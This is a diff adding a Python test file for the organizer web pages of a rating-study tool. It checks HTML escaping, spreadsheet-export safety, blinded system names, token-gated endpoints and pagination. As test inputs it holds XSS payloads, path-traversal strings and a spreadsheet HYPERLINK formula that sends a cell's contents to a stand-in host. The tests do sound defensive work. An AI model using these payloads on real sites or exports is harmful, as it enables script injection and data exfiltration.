@@ -1,0 +1,438 @@
+"""The organizer's pages against raters, files and colleagues who do what they should not."""
+
+from __future__ import annotations
+
+import csv
+import io
+import re
+import zipfile
+from collections import defaultdict
+from collections.abc import Iterator
+from contextlib import ExitStack
+from datetime import timedelta
+from pathlib import Path
+from threading import Lock
+from types import SimpleNamespace
+from typing import Any
+
+import pytest
+
+from jurybox.simulate import SimulatedJudge, run_judges
+from jurybox.store import Store
+from jurybox.study.model import RaterId
+from jurybox.web.organizer.names import make_names
+from jurybox.web.organizer.part import remember
+from jurybox.web.organizer.safe import safe_cell
+from tests.web.filling import TRUTH, real_offers
+from tests.web.office import HEADERS, START, Office, Offices
+from tests.web.test_api import Client, Clock, sent, vote
+
+HOSTILE = (
+    "<script>alert(1)</script>",
+    '"><img src=x onerror=alert(1)>',
+    "{{ 7 * 7 }}",
+    "[a](javascript:alert(1)) | b",
+    "مرحبا بالعالم",
+    "😀 👍🏽",
+    "W" * 64,
+    "a/../b?c=d&e#f%2F+g",
+    "..",
+    ".",
+    "=1+1",
+)
+
+
+@pytest.fixture
+def offices(tmp_path: Path) -> Iterator[Offices]:
+    with ExitStack() as stack:
+        yield Offices(tmp_path, stack)
+
+
+def answer_all(office: Office, rater: str, **more: Any) -> None:
+    client = Client(office.http, rater)
+    stage = client.begin()
+    while stage["stage"] == "trial":
+        client.post("submit", sent(stage["trials"][0], vote(), **more))
+        stage = client.get("next")
+
+
+def rank_all(office: Office, rater: str = "r1") -> None:
+    client = Client(office.http, rater)
+    stage = client.begin()
+    while stage["stage"] == "trial":
+        ranks = [{"criterion": "fit", "ranks": [2, 1, 4, 3]}]
+        client.post("submit", sent(stage["trials"][0], ranks))
+        stage = client.get("next")
+
+
+# What raters write
+
+
+@pytest.mark.parametrize("rater", HOSTILE)
+def test_any_id_and_any_words_are_text_on_every_page(offices: Offices, rater: str) -> None:
+    office = offices.open("compare")
+    words = f"{rater} <script>alert(2)</script>"
+    answer_all(office, rater, comment=words)
+    office.served.app.state.site.offers = real_offers(office.served)
+    first = office.store.submissions()[-1].submission
+    office.store.event(
+        "problem", rater=first.rater, trial=first.trial, detail={"words": words}, now=START
+    )
+    raters = office.get("raters").json()["html"]
+    (address,) = re.findall(r'href="#/(raters\?rater=[^"]*)"', raters)
+    pages = ["progress", "raters", address, "trials", f"trials/{first.trial}", "results"]
+    for part in pages:
+        html = office.get(part).raise_for_status().json()["html"]
+        assert "<script" not in html, part
+        assert not re.search(r"<img[^>]+onerror", html), part
+        assert not re.search(r'(?:href|src|action)="[^"#]*:', html), part
+    assert rater in office.html(address)
+    assert office.post("raters", rater=rater, action="pause").status_code == 200
+
+
+def test_a_flood_of_reports_does_not_fill_the_page(offices: Offices) -> None:
+    office = offices.open("compare")
+    answer_all(office, "r1")
+    trial = office.store.submissions()[-1].submission.trial
+    for number in range(40):
+        detail = {"words": f"Report {number:02}."}
+        office.store.event("problem", rater=RaterId("r1"), trial=trial, detail=detail, now=START)
+    for part in ("raters?rater=r1", f"trials/{trial}"):
+        shown = re.findall(r"Report (\d\d)", office.text(part))
+        assert shown == [f"{number:02}" for number in range(39, 9, -1)], part  # the latest 30
+        assert "the latest 30 of 40" in office.text(part), part
+
+
+# Spreadsheets
+
+
+def test_no_cell_of_any_download_is_a_formula(offices: Offices) -> None:
+    office = offices.open("compare")
+    evil = '=HYPERLINK("http://example.org/?"&A1)'
+    answer_all(office, "@evil", comment=evil)
+    answer_all(office, "\uff1dwide")
+    office.post("invitations", raters=["+49", "\uff20x"])
+    tables = {
+        name: office.get(name).content.decode("utf-8-sig")
+        for name in ("payments.csv", "invitations.csv", "export/votes", "export/submissions")
+    }
+    archive = zipfile.ZipFile(io.BytesIO(office.get("export.zip").content))
+    tables |= {name: archive.read(name).decode() for name in archive.namelist()}
+    for name, text in tables.items():
+        for row in csv.reader(io.StringIO(text)):
+            assert not [cell for cell in row if cell and cell[0] in "=+-@\uff1d\uff20"], name
+    assert f"'{evil}" in {row["comment"] for row in office.csv("export/votes")}
+
+
+def test_an_apostrophe_comes_before_every_beginning_of_a_formula() -> None:
+    for text in ("=1", "+1", "-1", "@x", "\t=1", "\r1", " =1", "\u00a0=1", "\uff1d1", "\uff0b1"):
+        assert safe_cell(text) == f"'{text}"
+    for value in ("", "a=1", "1-2", -1.5, 0, True):
+        assert safe_cell(value) is value
+    assert safe_cell(None) == ""
+
+
+def test_payments_and_invitations_have_their_columns_before_anybody_came(
+    offices: Offices,
+) -> None:
+    office = offices.open("compare")
+    first = office.get("payments.csv").content.decode("utf-8")
+    assert first == (
+        "\ufeffrater,group,state,sessions,active_minutes,trials,skipped,gold_score,gold_trials,"
+        "code,suggestion,rule\n"
+    )
+    # The mark without which spreadsheets read letters beyond ASCII wrongly.
+    assert office.get("invitations.csv").content.decode() == "\ufeffrater,group,state,link\n"
+    answer_all(office, "Zoë مرحبا 😀")
+    assert [row["rater"] for row in office.csv("payments.csv")] == ["Zoë مرحبا 😀"]
+
+
+def test_a_downloaded_table_leaves_out_whom_the_analysis_leaves_out(offices: Offices) -> None:
+    office = offices.open("panel", filled=True)
+    marks = {row["rater"]: row["excluded_by"] for row in office.csv("export/ratings")}
+    assert marks == {"rater-01": "", "rater-02": "gold_below", "rater-03": "", "rater-04": ""}
+
+
+# Hidden names
+
+
+@pytest.mark.parametrize("secret", [b"one", b"two", b"three", b"four"])
+def test_the_order_of_rows_tells_no_name(offices: Offices, secret: bytes) -> None:
+    office = offices.open("rank")
+    site = office.served.app.state.site
+    object.__setattr__(site.seals, "secret", secret)
+    rank_all(office)
+    names = list(make_names(site.material.systems, site.seals).values())
+    rows = office.csv("export/rankings")
+    assert len(rows) == 8  # 2 trials of 4 outputs each
+    for trial in dict.fromkeys(row["trial"] for row in rows):
+        mine = [row for row in rows if row["trial"] == trial]
+        assert [row["system"] for row in mine] == sorted(names)
+        said = re.findall(r"Fit · ([A-D])", office.text(f"trials/{trial}"))
+        assert said == ["A", "B", "C", "D"]
+
+
+def test_the_rows_keep_their_values_when_their_order_changes(offices: Offices) -> None:
+    office = offices.open("rank")
+    rank_all(office)
+    site = office.served.app.state.site
+    names = make_names(site.material.systems, site.seals)
+    true = office.store.table("rankings")
+    known = {
+        (trial, names[system]): (rank, place)
+        for trial, system, rank, place in zip(
+            *(true[name] for name in ("trial", "system", "rank", "place")), strict=True
+        )
+    }
+    for row in office.csv("export/rankings"):
+        rank, place = known[row["trial"], row["system"]]
+        assert (float(row["rank"]), int(row["place"])) == (rank, place)
+
+
+def test_a_disagreement_about_a_pair_names_the_systems_as_every_page_does(
+    offices: Offices,
+) -> None:
+    calibrate = (
+        "{overlap: 1, raters: 1, seed: 7}\nquality: {gold: gold.csv}",
+        "{overlap: 2, raters: 2, seed: 7}\nquality: {calibration: {items: 1}}",
+    )
+    office = offices.open("compare", change=calibrate)
+    for rater, wanted in (("ada", 0), ("ben", 1)):
+        client = Client(office.http, rater)
+        (trial, *_) = client.begin()["trials"]
+        order = office.served.app.state.site.slot(trial["assignment"]).order
+        choice = "first" if order[0] == wanted else "second"
+        client.post("submit", sent(trial, vote(choice)))
+    site = office.served.app.state.site
+    names = make_names(site.material.systems, site.seals)
+    table = office.store.table("votes", round="calibration")
+    winners = {
+        rater: names[{"a": a, "b": b}[winner]]
+        for rater, winner, a, b in zip(
+            *(table[name] for name in ("rater", "winner", "system_a", "system_b")), strict=True
+        )
+    }
+    assert set(winners.values()) == {"System 1", "System 2"}
+    html = office.html("calibration")
+    found = re.findall(r'said-value">([^<]*)</span><a[^>]*>(\w+)</a>', html)
+    assert {rater: said for said, rater in found} == winners
+
+
+# Judges, colleagues, other doors
+
+
+def test_judges_are_told_from_people(offices: Offices) -> None:
+    office = offices.open("panel", filled=True)
+    served = office.served
+    plan = served.store.load_plan()
+    assert plan is not None
+    judge = SimulatedJudge(id="big-judge")
+    run_judges(served.study, served.material, plan, served.store, TRUTH, [judge], seed=1, now=START)
+    progress = office.html("progress")
+    assert "3 raters have answered" in office.text("progress")
+    assert "rater=big-judge" not in progress
+    assert "Judges, beside the plan: big-judge 12" in office.text("progress")
+    trial = office.html(f"trials/{plan.trials[0].id}")
+    assert "big-judge" in trial
+    assert "rater=big-judge" not in trial
+    assert "big-judge" not in {row["rater"] for row in office.csv("payments.csv")}
+
+
+def test_what_a_colleague_has_done_already_is_said_and_not_recorded_twice(
+    offices: Offices,
+) -> None:
+    office = offices.open("panel", filled=True)
+    mark = {"rater": "rater-01", "rule": "organizer", "by": "Grace", "why": "Asleep"}
+    assert office.post("raters", **mark, action="exclude").status_code == 200
+    again = office.post("raters", **mark, action="exclude")
+    assert (again.status_code, "already" in again.text) == (400, True)
+    assert office.post("raters", **mark, action="include").status_code == 200
+    undone = office.post("raters", **mark, action="include")
+    assert (undone.status_code, "any more" in undone.text) == (400, True)
+    kinds = [event.kind for event in office.store.events(rater=RaterId("rater-01"))]
+    assert kinds == ["rater excluded", "exclusion undone"]
+
+
+def test_a_withdrawal_is_not_taken_back(offices: Offices) -> None:
+    office = offices.open("panel", filled=True)
+    office.store.update_rater(RaterId("rater-01"), withdrawn_at=START, now=START)
+    body = {"rater": "rater-01", "rule": "withdrawn", "by": "Grace", "why": "Please"}
+    assert office.post("raters", **body, action="include").status_code == 400
+    assert [mark.rule for mark in office.store.exclusions()] == ["withdrawn"]
+
+
+def test_whoever_is_invited_anew_goes_on(offices: Offices) -> None:
+    office = offices.open("compare")
+    office.post("invitations", raters=["Ada"])
+    Client(office.http, "Ada").begin()
+    office.post("invitations/revoke", rater="Ada")
+    came = office.store.rater(RaterId("Ada"))
+    assert came is not None
+    assert came.paused
+    office.post("invitations", raters=["Ada"])
+    came = office.store.rater(RaterId("Ada"))
+    assert came is not None
+    assert not came.paused
+
+
+def doors(office: Office) -> Iterator[tuple[str, str]]:
+    for path, methods in office.served.app.openapi()["paths"].items():
+        if path.startswith(("/api/organizer", "/api/preview")):
+            for method in methods:
+                yield method.upper(), path.format(shape="votes", trial="t", step="guide")
+
+
+def test_every_door_is_closed_without_the_token(offices: Offices) -> None:
+    office = offices.open("compare")
+    rater = Client(office.http, "Ada")
+    rater.begin()
+    before = office.store.changes()
+    found = list(doors(office))
+    assert len(found) > 18
+    for method, path in found:
+        for given in (
+            {},
+            {"Authorization": "Bearer "},
+            {"Authorization": f"Bearer {rater.token}"},
+            {"Cookie": "token=x"},
+        ):
+            for how in {method, "HEAD" if method == "GET" else method}:
+                reply = office.http.request(how, path, headers=given, json={})
+                assert reply.status_code == 401, (how, path)
+                assert "access-control-allow-origin" not in reply.headers
+        for other in {"PUT", "DELETE", "PATCH", "OPTIONS"} - {method}:
+            assert office.http.request(other, path, headers=HEADERS).status_code == 405
+        query = office.http.request(method, f"{path}?token={HEADERS['Authorization'][7:]}", json={})
+        assert query.status_code == 401, path
+    assert office.store.changes() == before
+
+
+def test_an_address_of_a_report_runs_out_and_cannot_be_made_up(offices: Offices) -> None:
+    office = offices.open("panel", filled=True)
+    link = office.post("report").json()["url"]
+    _, until, seal = link.split("/")
+    for wrong in (f"/report/{int(until) + 1}/{seal}", f"/report/{until}/{'0' * 24}"):
+        assert office.http.get(wrong).status_code == 404
+    assert office.http.get(f"/report/{10**30}/{seal}").status_code == 404
+    assert office.http.get(f"/report/{until}/%ff%00").status_code == 404
+
+
+# Many, few and none
+
+
+def test_long_lists_come_in_pages(offices: Offices, monkeypatch: pytest.MonkeyPatch) -> None:
+    office = offices.open("compare")
+    for number in range(12):
+        office.store.enroll(RaterId(f"person-{number:02}"), now=START)
+    monkeypatch.setattr("jurybox.web.organizer.raters.PAGE", 5)
+    pages = [office.html(f"raters?start={start}") for start in (0, 5, 10, 999)]
+    found = [re.findall(r"rater=(person-\d+)", page) for page in pages]
+    assert [len(page) for page in found] == [5, 5, 2, 2]
+    assert len({rater for page in found[:3] for rater in page}) == 12
+    assert "6–10 of 12" in office.text("raters?start=5")
+    assert re.findall(r"rater=(person-\d+)", office.html("raters?q=ON-07")) == ["person-07"]
+    assert "No rater fits." in office.text("raters?q=nobody")
+    assert "No rater fits." in office.text("raters?state=look")
+    assert "12 of 12" in office.text("raters?state=rating&start=10")
+    assert office.get("raters?state=odd").status_code == 422
+    monkeypatch.setattr("jurybox.web.organizer.invitations.PAGE", 5)
+    office.post("invitations", count=12)
+    pages = [office.html(f"invitations?start={start}") for start in (0, 5, 10)]
+    shown = [re.findall(r"Copy the link of (rater-\d+)", page) for page in pages]
+    assert [len(page) for page in shown] == [5, 5, 2]
+    assert len(office.csv("invitations.csv")) == 12
+
+
+def test_a_study_in_which_everybody_is_left_out_still_shows_its_pages(offices: Offices) -> None:
+    office = offices.open("panel", filled=True)
+    for rater in office.store.raters():
+        body = {"rule": "organizer", "by": "Grace", "why": "A pilot"}
+        office.post("raters", rater=rater.id, action="exclude", **body)
+    for part in ("progress", "raters", "trials", "calibration", "results", "export"):
+        assert office.get(part).status_code == 200, part
+    assert {row["suggestion"] for row in office.csv("payments.csv")} == {"look first"}
+    assert "Everybody who has answered is left out." in office.text("calibration")
+    assert "Every response is excluded by a rule" in office.text("results")
+    page = office.http.get(
+        f"/{office.post('report').json()['url']}", headers={"Accept": "text/html"}
+    )
+    assert page.status_code == 409
+    assert "every response is excluded by a rule" in page.text
+
+
+def test_one_system_alone_has_every_page(offices: Offices) -> None:
+    office = offices.open("panel")
+    folder = office.served.study.directory
+    assert folder is not None
+    for name in ("quagga-model", "okapi-model"):
+        (folder / "outputs" / f"{name}.jsonl").unlink()
+    (folder / "study.db").unlink()
+    text = (folder / "study.yaml").read_text(encoding="utf-8")
+    text = text.replace("analysis: {primary: {mean: [zebra-model, quagga-model]}}\n", "")
+    (folder / "study.yaml").write_text(text, encoding="utf-8")
+    alone = offices.reopen(folder, filled=True)
+    for part in ("progress", "raters", "trials", "calibration", "results", "export"):
+        assert alone.get(part).status_code == 200, part
+    assert "System 1" in alone.text("progress")
+    assert "zebra" not in alone.html("results")
+
+
+def test_every_part_is_the_same_on_the_other_database(tmp_path: Path, fresh_postgres: str) -> None:
+    """What is kept in PostgreSQL is shown, exported and refreshed as from a file."""
+    with ExitStack() as stack:
+        pages = {}
+        for name, database in (("file", None), ("server", fresh_postgres)):
+            office = Offices(tmp_path / name, stack).open("panel", filled=True, database=database)
+            parts = ("progress", "raters", "raters?rater=rater-02", "trials", "calibration")
+            pages[name] = [office.text(part) for part in (*parts, "results")]
+            pages[name] += [office.get(f"export/{one}").text for one in ("ratings", "checks")]
+            first = office.get("progress")
+            again = office.get("progress", **{"If-None-Match": first.headers["ETag"]})
+            assert again.status_code == 304, name
+            office.store.event("anything", now=START)
+            changed = office.get("progress", **{"If-None-Match": first.headers["ETag"]})
+            assert changed.status_code == 200, name
+            assert office.post("unblind", by="Grace", sure=True).status_code == 200
+        for file, server in zip(pages["file"], pages["server"], strict=True):
+            assert file == server
+
+
+def test_the_same_question_from_two_organizers_is_computed_once(
+    offices: Offices, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    from concurrent.futures import ThreadPoolExecutor
+
+    office = offices.open("panel", filled=True)
+    counted = []
+    progress = Store.progress
+
+    def counting(*args: Any, **more: Any) -> Any:
+        if more.get("round", "main") == "main":
+            counted.append(1)
+        return progress(*args, **more)
+
+    monkeypatch.setattr(Store, "progress", counting)
+    with ThreadPoolExecutor(4) as pool:
+        replies = list(pool.map(lambda _: office.get("progress"), range(8)))
+    assert {reply.status_code for reply in replies} == {200}
+    assert len(counted) == 1
+
+
+def test_what_takes_long_is_not_counted_anew_with_every_answer() -> None:
+    # It takes 3 s; with a patience of 20 it will do for the next 60 s, whatever comes in.
+    clock, made = Clock(), []
+
+    def make() -> int:
+        clock.time += timedelta(seconds=3)
+        made.append(len(made))
+        return made[-1]
+
+    site: Any = SimpleNamespace(remembered={}, remembering=defaultdict(Lock), now=clock)
+    assert remember(site, "slow", 1, make, patience=20) == 0
+    clock.time += timedelta(seconds=59)
+    assert remember(site, "slow", 2, make, patience=20) == 0
+    assert remember(site, "slow", 2, make) == 1  # whoever pays by it wants it exact
+    assert remember(site, "slow", 2, make) == 1
+    assert remember(site, "slow", 3, make, patience=20) == 1
+    clock.time += timedelta(seconds=60)
+    assert remember(site, "slow", 3, make, patience=20) == 2
